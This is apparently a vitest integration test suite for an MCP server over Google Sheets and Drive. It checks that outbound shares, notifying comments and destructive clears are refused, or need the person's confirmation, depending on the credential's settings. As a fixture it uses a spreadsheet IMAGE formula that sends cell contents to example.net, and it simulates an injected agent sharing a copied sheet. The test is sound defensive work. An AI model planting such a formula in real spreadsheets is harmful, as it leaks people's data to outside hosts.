import {
  createAccountServiceClient,
  createCallConsentClient,
  requestStateService,
  startGrpcServer,
} from '@sheetgate/proto';
import { freePort, readJson } from '@sheetgate/test-harness';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { consentToCall } from '../src/protocol/call-consent.ts';
import { grpcCallConsents } from '../src/protocol/call-consents.ts';
import { createRequestStateCodec } from '../src/protocol/request-state.ts';
import type { ToolContext, ToolDefinition } from '../src/tools/kit/tool-definition.ts';
import {
  callAs,
  googleStats,
  type Reply,
  requestsBetween,
  SHAPES,
  type Shape,
  textOf,
  writesBetween,
} from './support/consent-calls.ts';
import { connectApp } from './support/oauth-app.ts';
import { credentialHeaders, type McpUnderTest, postMcp, startMcpUnderTest } from './support/stack.ts';

// The person's say on every outbound call, and on destructive calls from clients that cannot ask
// (issue 37; docs/design.md §11.10, §15), through real auth, mcp and Google emulator processes:
// per outbound action kind × client shape × the credential's choice, what the person is asked
// (the elicitation's message, the approval page's sentence), what Google received (the emulator's
// write counts) and what the answer says. Choices are made where the person makes them: on the
// key form (CreateApiKey's choices) and the consent screen.

const EXFILTRATING = '=IMAGE("https://example.net/?"&A1)';
const FETCH_WORDS =
  'IMAGE makes Google fetch from example.net, sending what the URL holds (cells included) each time the sheet is computed';
const ACCEPT = { confirm: { action: 'accept', content: { confirm: true } } };

let stack: McpUnderTest;
let session: string;
let book: string;
/** API keys of alice's, by their choices. */
const keys = { allowed: '', denied: '', strict: '', outboundOnly: '' };
const titles = new Map<string, string>();
let row = 0;

beforeAll(async () => {
  stack = await startMcpUnderTest();
  const alice = await stack.signIn('alice@example.com');
  session = alice.sessionCookie;
  const key = async (mayActOutbound: boolean, mayDestroyUnasked: boolean) =>
    (await stack.createApiKey(session, { choices: { mayActOutbound, mayDestroyUnasked } })).secret;
  keys.allowed = await key(true, true);
  // The key form's defaults: nothing outside; a client that cannot ask may destroy.
  keys.denied = (await stack.createApiKey(session)).secret;
  keys.strict = await key(false, false);
  keys.outboundOnly = await key(true, false);
  const created = await callAs(stack.mcpUrl, 'legacy', keys.allowed, 'create_spreadsheet', {
    title: 'Salaries',
  });
  book = created.result!.structuredContent.spreadsheetId;
  const listed = await postMcp(
    stack.mcpUrl,
    { jsonrpc: '2.0', id: 1, method: 'tools/list' },
    { headers: { ...credentialHeaders(keys.allowed), 'mcp-protocol-version': '2025-11-25' } },
  );
  const { tools } = (
    (await readJson(listed)) as { result: { tools: Array<{ name: string; title: string }> } }
  ).result;
  for (const tool of tools) titles.set(tool.name, tool.title);
}, 120_000);

afterAll(async () => {
  await stack?.stop();
});

/** Each outbound action kind: a call taking it, the Google method that carries it, its words. */
const KINDS: Array<{
  kind: string;
  tool: string;
  args: () => Record<string, unknown>;
  method: string;
  words: string;
}> = [
  {
    kind: 'link share',
    tool: 'share_file',
    args: () => ({ fileId: book, type: 'anyone', role: 'reader' }),
    method: 'drive.permissions.create',
    words: 'anyone with the link may open it as reader',
  },
  {
    kind: 'outside share',
    tool: 'share_file',
    args: () => ({
      fileId: book,
      emailAddress: 'mallory@gmail.com',
      role: 'reader',
      sendNotificationEmail: false,
    }),
    method: 'drive.permissions.create',
    words: 'mallory@gmail.com gets reader access',
  },
  {
    kind: 'sharing message',
    tool: 'share_file',
    args: () => ({
      fileId: book,
      emailAddress: 'mallory@gmail.com',
      role: 'commenter',
      emailMessage: 'Totals',
    }),
    method: 'drive.permissions.create',
    words:
      'mallory@gmail.com gets commenter access; mallory@gmail.com is e-mailed your message (6 characters)',
  },
  {
    kind: 'notifying comment',
    tool: 'add_comment',
    args: () => ({ fileId: book, content: 'Totals for +mallory@gmail.com' }),
    method: 'drive.comments.create',
    words: 'mallory@gmail.com is notified of the comment and sent its text',
  },
  {
    kind: 'fetch formula (write_range)',
    tool: 'write_range',
    // A fresh row each time: nothing is overwritten, so nothing is lost.
    args: () => ({ spreadsheetId: book, range: `Sheet1!C${++row}`, values: [[EXFILTRATING]] }),
    method: 'sheets.spreadsheets.values.update',
    words: FETCH_WORDS,
  },
  {
    kind: 'fetch formula (batch_update)',
    tool: 'batch_update',
    args: () => ({
      spreadsheetId: book,
      requests: [
        {
          updateCells: {
            start: { sheetId: 0, rowIndex: ++row, columnIndex: 3 },
            fields: 'userEnteredValue',
            rows: [{ values: [{ userEnteredValue: { formulaValue: EXFILTRATING } }] }],
          },
        },
      ],
    }),
    method: 'sheets.spreadsheets.batchUpdate',
    words: FETCH_WORDS,
  },
];

const accounts = () =>
  createAccountServiceClient({ address: stack.grpcAddress, serviceToken: stack.serviceToken });

/** The call, what Google was asked to write meanwhile, and every request it was sent. */
async function observed(
  shape: Shape,
  bearer: string,
  tool: string,
  args: Record<string, unknown>,
  extra: Record<string, unknown> = {},
): Promise<{ reply: Reply; writes: Record<string, number>; requests: Record<string, number> }> {
  const before = await googleStats(stack.emulatorUrl);
  const reply = await callAs(stack.mcpUrl, shape, bearer, tool, args, extra);
  const after = await googleStats(stack.emulatorUrl);
  return { reply, writes: writesBetween(before, after), requests: requestsBetween(before, after) };
}

describe('an outbound call', () => {
  for (const kind of KINDS) {
    for (const shape of SHAPES) {
      it(`${kind.kind}, ${shape} client, the credential may not: refused before Google, saying where to allow it`, async () => {
        const { reply, requests } = await observed(shape, keys.denied, kind.tool, kind.args());
        expect(reply.result?.isError).toBe(true);
        expect(textOf(reply.result)).toBe(
          `Nothing was sent to Google: ${kind.words}. This API key may not share or send outside your account; the person can allow it on the dashboard (${stack.baseUrl}/dashboard, "May share and send outside your account"), no reconnecting needed.`,
        );
        // Outbound by its arguments alone: refused on the choice before Google is asked anything,
        // a write's or a comment's owners read included.
        expect(requests).toEqual({});
      });

      it(`${kind.kind}, ${shape} client, the credential may: ${shape === 'form' ? 'asked, runs on yes' : shape === 'url' ? 'approved on the page, runs' : 'runs unasked'}`, async () => {
        const args = kind.args();
        const first = await observed(shape, keys.allowed, kind.tool, args);
        const sentence = `${titles.get(kind.tool)} (${book}) sends outside your account: ${kind.words}.`;
        if (shape === 'form') {
          expect(first.writes).toEqual({});
          expect(first.reply.result?.resultType).toBe('input_required');
          expect(first.reply.result?.inputRequests.confirm.params).toMatchObject({
            mode: 'form',
            message: `${sentence} Go ahead?`,
          });
          const confirmed = await observed(shape, keys.allowed, kind.tool, args, {
            inputResponses: ACCEPT,
            requestState: first.reply.result!.requestState,
          });
          expect(confirmed.reply.result?.isError, textOf(confirmed.reply.result)).toBeFalsy();
          expect(confirmed.writes).toEqual({ [kind.method]: 1 });
        } else if (shape === 'url') {
          expect(first.writes).toEqual({});
          const asked = first.reply.result!;
          expect(asked.resultType).toBe('input_required');
          const params = asked.inputRequests.approve.params;
          expect(params.mode).toBe('url');
          expect(params.url).toMatch(
            new RegExp(`^${stack.baseUrl}/approve/[A-Za-z0-9_-]{22}\\.[A-Za-z0-9_-]+$`),
          );
          expect(params.message).toContain(sentence);
          const approvalId = params.elicitationId;
          const client = accounts();
          try {
            const shown = await client.showCallApproval({ sessionCookie: session, approvalId });
            expect(shown.approval).toMatchObject({ tool: kind.tool, sentence, credentialKind: 'api_key' });
            await client.answerCallApproval({ sessionCookie: session, approvalId, approve: true });
          } finally {
            client.close();
          }
          const approved = await observed(shape, keys.allowed, kind.tool, args, {
            inputResponses: { approve: { action: 'accept' } },
            requestState: asked.requestState,
          });
          expect(approved.reply.result?.isError, textOf(approved.reply.result)).toBeFalsy();
          expect(approved.writes).toEqual({ [kind.method]: 1 });
        } else {
          expect(first.reply.result?.isError, textOf(first.reply.result)).toBeFalsy();
          expect(first.writes).toEqual({ [kind.method]: 1 });
        }
      });
    }
  }

  it('copy then share with anyone (the injected agent): the copy is made, its share refused in every shape', async () => {
    const copied = await callAs(stack.mcpUrl, 'legacy', keys.denied, 'copy_spreadsheet', {
      spreadsheetId: book,
    });
    const copy = copied.result?.structuredContent.spreadsheetId;
    expect(copy, textOf(copied.result)).toEqual(expect.any(String));
    for (const shape of SHAPES) {
      const { reply, writes } = await observed(shape, keys.denied, 'share_file', {
        fileId: copy,
        type: 'anyone',
        role: 'writer',
      });
      expect(textOf(reply.result)).toMatch(
        /^Nothing was sent to Google: anyone with the link may open it as writer\. /,
      );
      expect(writes).toEqual({});
    }
  });

  it("update_permission raising the link's role: known after one read, refused or asked like a share", async () => {
    const link = (await callAs(stack.mcpUrl, 'legacy', keys.allowed, 'share_file', KINDS[0]!.args())).result!;
    const args = { fileId: book, permissionId: link.structuredContent.permissionId, role: 'writer' };
    const before = await googleStats(stack.emulatorUrl);
    const refused = await callAs(stack.mcpUrl, 'legacy', keys.denied, 'update_permission', args);
    expect(textOf(refused.result)).toMatch(
      /^Nothing was sent to Google: anyone with the link may open it as writer\. This API key may not/,
    );
    const after = await googleStats(stack.emulatorUrl);
    expect(writesBetween(before, after)).toEqual({});
    expect((after['drive.permissions.get'] ?? 0) - (before['drive.permissions.get'] ?? 0)).toBe(1);
    const asked = await callAs(stack.mcpUrl, 'form', keys.allowed, 'update_permission', args);
    expect(asked.result?.inputRequests.confirm.params.message).toBe(
      `${titles.get('update_permission')} (${book}) sends outside your account: anyone with the link may open it as writer. Go ahead?`,
    );
  });

  it('what went out reached Google: mallory has access, the comment and the formulas are there', async () => {
    const client = (name: string, args: Record<string, unknown>) =>
      callAs(stack.mcpUrl, 'legacy', keys.allowed, name, args).then((reply) => reply.result!);
    const permissions = (await client('list_permissions', { fileId: book })).structuredContent.permissions;
    expect(permissions).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ type: 'anyone', role: 'reader' }),
        expect.objectContaining({ emailAddress: 'mallory@gmail.com', role: 'commenter' }),
      ]),
    );
    const comments = (await client('list_comments', { fileId: book })).structuredContent.comments;
    expect(comments.map((comment: { content: string }) => comment.content)).toContain(
      'Totals for +mallory@gmail.com',
    );
    const details = await client('read_cell_details', {
      spreadsheetId: book,
      range: 'Sheet1!C1:D100',
      fields: ['formulas'],
    });
    const formulas = JSON.stringify(details.structuredContent);
    // Written by write_range (column C) and batch_update (column D), in the shapes that ran them.
    expect(formulas).toMatch(/"cell":"C\d+","formula":"=IMAGE/);
    expect(formulas).toMatch(/"cell":"D\d+","formula":"=IMAGE/);
  });

  it('a dry run: refused like the call when the credential may not, and asks nobody when it may', async () => {
    const args = { ...KINDS[0]!.args(), dryRun: true };
    const refused = await observed('form', keys.denied, 'share_file', args);
    expect(textOf(refused.reply.result)).toMatch(/^Nothing was sent to Google: anyone with the link/);
    const dry = await observed('form', keys.allowed, 'share_file', args);
    expect(dry.reply.result).toMatchObject({ resultType: 'complete', structuredContent: { dryRun: true } });
    expect(dry.writes).toEqual({});
  });

  it('an app the person connected without allowing it: "This app may not …"', async () => {
    const app = await connectApp(stack, session);
    const { reply, writes } = await observed('legacy', app.accessToken, 'share_file', KINDS[1]!.args());
    expect(textOf(reply.result)).toBe(
      `Nothing was sent to Google: mallory@gmail.com gets reader access. This app may not share or send outside your account; the person can allow it on the dashboard (${stack.baseUrl}/dashboard, "May share and send outside your account"), no reconnecting needed.`,
    );
    expect(writes).toEqual({});
    // Allowed on the consent screen: the same call runs.
    const allowed = await connectApp(stack, session, {
      choices: { mayActOutbound: true, mayDestroyUnasked: true },
    });
    const ran = await observed('legacy', allowed.accessToken, 'share_file', KINDS[1]!.args());
    expect(ran.reply.result?.isError, textOf(ran.reply.result)).toBeFalsy();
    expect(ran.writes).toEqual({ 'drive.permissions.create': 1 });
  });

  it('changed on the dashboard, the choice holds from the next call', async () => {
    const { secret, keyId } = await stack.createApiKey(session);
    const args = KINDS[1]!.args();
    expect((await observed('legacy', secret, 'share_file', args)).reply.result?.isError).toBe(true);
    const client = accounts();
    try {
      await client.setApiKeyChoices({
        sessionCookie: session,
        keyId,
        choices: { mayActOutbound: true, mayDestroyUnasked: true },
      });
    } finally {
      client.close();
    }
    expect((await observed('legacy', secret, 'share_file', args)).writes).toEqual({
      'drive.permissions.create': 1,
    });
  });
});

describe('a destructive call', () => {
  /** Two non-empty cells in a fresh row (`at`, 1-based), and the clear_range arguments of them. */
  async function filledRow() {
    const at = ++row;
    await callAs(stack.mcpUrl, 'legacy', keys.allowed, 'write_range', {
      spreadsheetId: book,
      range: `Sheet1!A${at}:B${at}`,
      values: [['Ann', '91000']],
    });
    return { at, args: { spreadsheetId: book, range: `Sheet1!A${at}:B${at}` } };
  }
  const loss = (range: string) =>
    `Clears ${range.slice('Sheet1!'.length)} of the tab "Sheet1" of "Salaries": 2 non-empty cells.`;

  for (const shape of SHAPES) {
    for (const [name, bearer] of [
      ['may destroy unasked', () => keys.allowed],
      ['may not destroy unasked', () => keys.strict],
    ] as const) {
      it(`${shape} client, the credential ${name}`, async () => {
        const { args } = await filledRow();
        const { reply, writes } = await observed(shape, bearer(), 'clear_range', args);
        if (shape === 'form') {
          expect(reply.result?.inputRequests.confirm.params.message).toBe(`${loss(args.range)} Go ahead?`);
          expect(writes).toEqual({});
        } else if (shape === 'url') {
          expect(reply.result?.inputRequests.approve.params.message).toContain(loss(args.range));
          expect(writes).toEqual({});
        } else if (name === 'may destroy unasked') {
          expect(reply.result?.isError, textOf(reply.result)).toBeFalsy();
          expect(writes).toEqual({ 'sheets.spreadsheets.values.clear': 1 });
        } else {
          expect(textOf(reply.result)).toBe(
            `Nothing was changed: this client cannot ask you to confirm, and this API key may not delete or clear without asking. ${loss(args.range)} Allow it on the dashboard (${stack.baseUrl}/dashboard, "A client that cannot ask me may delete and clear without asking"), or use a client that can ask.`,
          );
          expect(writes).toEqual({});
        }
      });
    }
  }

  it('clearing empty cells destroys nothing: runs for a client that cannot ask, whatever the choice', async () => {
    const { writes } = await observed('legacy', keys.strict, 'clear_range', {
      spreadsheetId: book,
      range: 'Sheet1!Z1:Z2',
    });
    expect(writes).toEqual({ 'sheets.spreadsheets.values.clear': 1 });
  });

  it('outbound and destructive: one question names both; unasked, the destroy choice holds too', async () => {
    const { at } = await filledRow();
    const replacing = {
      spreadsheetId: book,
      requests: [
        {
          updateCells: {
            start: { sheetId: 0, rowIndex: at - 1, columnIndex: 0 },
            fields: 'userEnteredValue',
            rows: [{ values: [{ userEnteredValue: { formulaValue: EXFILTRATING } }] }],
          },
        },
      ],
    };
    const asked = await observed('form', keys.allowed, 'batch_update', replacing);
    const message: string = asked.reply.result?.inputRequests.confirm.params.message;
    expect(message).toMatch(
      new RegExp(
        `^${titles.get('batch_update')} \\(${book}\\) sends outside your account: IMAGE makes Google fetch .*\\. \\S.* Go ahead\\?$`,
      ),
    );
    expect(message).toContain('1 non-empty cell');
    const refused = await observed('legacy', keys.outboundOnly, 'batch_update', replacing);
    expect(textOf(refused.reply.result)).toMatch(
      /^Nothing was changed: this client cannot ask you to confirm/,
    );
    expect(refused.writes).toEqual({});
  });
});

describe('auth cannot answer', () => {
  // The consent step alone, with its reads sent over real gRPC: to a port nobody listens on, and
  // to an auth of an earlier release (no CallConsentService). The tool is a stand-in: only what it
  // says of itself matters here.
  const tool = {
    name: 'stand_in_share',
    title: 'Stand-in',
    describeOutbound: async () => [
      { kind: 'link', to: 'anyone with the link', words: 'anyone with the link may open it as reader' },
    ],
    describeLoss: async () => 'Deletes the tab "Kept": 1 non-empty cell.',
  } as unknown as ToolDefinition;
  const context: ToolContext = {
    auth: { userId: 'user-1', scopes: new Set(['sheets:write']), credential: 'api_key', apiKeyId: 'key-1' },
    signal: new AbortController().signal,
    progress: () => {},
  };

  it('fails closed: nothing runs, and the tool says to try again in 5 seconds', async () => {
    const older = await startGrpcServer({
      host: '127.0.0.1',
      port: 0,
      serviceToken: 'x'.repeat(32),
      services: [requestStateService({})],
    });
    const clients = [
      createCallConsentClient({ address: `127.0.0.1:${await freePort()}`, serviceToken: 'x'.repeat(32) }),
      createCallConsentClient({ address: `127.0.0.1:${older.port}`, serviceToken: 'x'.repeat(32) }),
    ];
    try {
      for (const client of clients) {
        const consents = grpcCallConsents(client, {
          baseUrl: 'http://sheetgate.test',
          serviceToken: 'x'.repeat(32),
        });
        for (const shape of ['none', 'form'] as const) {
          await expect(
            consentToCall({
              tool,
              input: {},
              args: {},
              params: {},
              shape,
              context,
              states: createRequestStateCodec('x'.repeat(32)),
              consents,
              dashboardUrl: 'http://sheetgate.test/dashboard',
            }),
          ).rejects.toThrow(
            /^Nothing was sent to Google: Sheetgate could not check what you allow this API key right now \(temporarily unavailable\); try again in 5 seconds\.$/,
          );
        }
      }
    } finally {
      for (const client of clients) client.close();
      await older.close();
    }
  });
});
